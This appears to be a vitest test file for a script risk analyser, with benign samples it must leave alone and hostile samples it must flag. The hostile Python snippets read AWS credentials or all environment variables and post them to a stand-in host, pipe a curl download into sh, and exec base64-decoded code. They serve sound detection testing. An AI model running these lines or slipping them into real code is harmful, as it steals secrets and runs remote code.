import { expect, it } from 'vitest'
import { mayMatter } from '../../../src/risk/script/may-matter.ts'
import { isSecretName } from '../../../src/risk/evidence/credentials.ts'
import { analyseJavaScript, analysePython, analysePythonFiles, errors, shell, warnings } from './acts.ts'

/** Code of which something was said that is not so. */
const HONEST: readonly (readonly [name: string, language: 'python' | 'javascript', code: string])[] = [
  [
    'a table that pairs each address with a key of its own',
    'python',
    `import os, requests
CHAINS = {
    "eth": {"url": "https://api.etherscan.io/api", "key": os.environ["ETHERSCAN_API_KEY"]},
    "bsc": {"url": "https://api.bscscan.com/api", "key": os.environ["BSCSCAN_API_KEY"]},
    "poly": {"url": "https://api.polygonscan.com/api", "key": os.environ["POLYGONSCAN_API_KEY"]},
    "base": {"url": "https://api.basescan.org/api", "key": os.environ["BASESCAN_API_KEY"]},
}
def balance(chain, address):
    it = CHAINS[chain]
    return requests.get(it["url"], params={"address": address, "apikey": it["key"]}).json()
for name, it in CHAINS.items():
    print(requests.get(it["url"], params={"apikey": it["key"]}).json())`,
  ],
  [
    'a request to the address of a tunnel',
    'python',
    `import requests, subprocess
host = subprocess.check_output(["hostname"], text=True).strip()
tunnel = requests.get("http://127.0.0.1:4040/api/tunnels").json()["tunnels"][0]["public_url"]
print(requests.get(f"{tunnel}/health").status_code, requests.get("https://a1b2.ngrok.io/health").status_code)`,
  ],
  [
    'a placeholder',
    'python',
    `import requests
requests.post("https://transfer.sh/", data=open("<file>").read())`,
  ],
  [
    'a pattern that is executed',
    'javascript',
    `const text = await (await fetch('https://api.vendor.dev/list')).text()\nfor (let m; (m = pattern.exec(text)); ) console.log(m[1])`,
  ],
  ['a pattern that is compiled', 'python', `import re, requests\nwords = re.compile(requests.get("https://api.vendor.dev/list").text)`],
]

it.each(HONEST)('leaves %s alone', (_, language, code) => {
  const acts = language === 'python' ? analysePython(code, shell) : analyseJavaScript(code, shell)
  expect([...errors(acts), ...warnings(acts)]).toEqual([])
})

it('knows keys of service accounts and addresses of databases for secrets', () => {
  expect(['GOOGLE_SERVICE_ACCOUNT_KEY', 'DATABASE_URL', 'API_URL', 'PUBLIC_KEY'].map(isSecretName)).toEqual([true, true, false, false])
})

it('follows data from file to file', () => {
  const files = [
    { path: 'scripts/gather.py', text: 'import os\ndef gather():\n    return open(os.path.expanduser("~/.aws/credentials")).read()' },
    { path: 'scripts/post.py', text: 'import requests\nfrom gather import gather\nrequests.post("https://sync.tablekit.dev/u", data=gather())' },
    { path: 'scripts/keep.py', text: 'import os, json\nwith open("/tmp/.state.json", "w") as f:\n    json.dump(dict(os.environ), f)' },
    { path: 'scripts/share.py', text: 'import requests\nrequests.post("https://sync.tablekit.dev/u", data=open("/tmp/.state.json").read())' },
  ]
  const acts = analysePythonFiles(files, shell)
  expect(['scripts/post.py', 'scripts/share.py'].map((path) => errors(acts.get(path) ?? []))).toEqual([['secret-exfiltration'], ['secret-exfiltration']])
})

it('parses only what has a source and something that its data could go into', () => {
  const matters: readonly string[] = [
    'import os, requests\nrequests.post("https://sync.tablekit.dev", json=dict(os.environ))',
    'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))',
    'import subprocess\nsubprocess.run("curl -s https://sync.tablekit.dev/i | sh", shell=True)',
  ]
  const honest: readonly string[] = [
    'import subprocess\nsubprocess.run(["git", "status"])',
    'import base64\nprint(base64.b64decode("cHJpbnQoMSk="))',
    'const found = /a/.exec(await (await fetch("https://api.openai.com")).text())',
  ]
  expect([matters.map(mayMatter), honest.map(mayMatter)]).toEqual([matters.map(() => true), honest.map(() => false)])
})
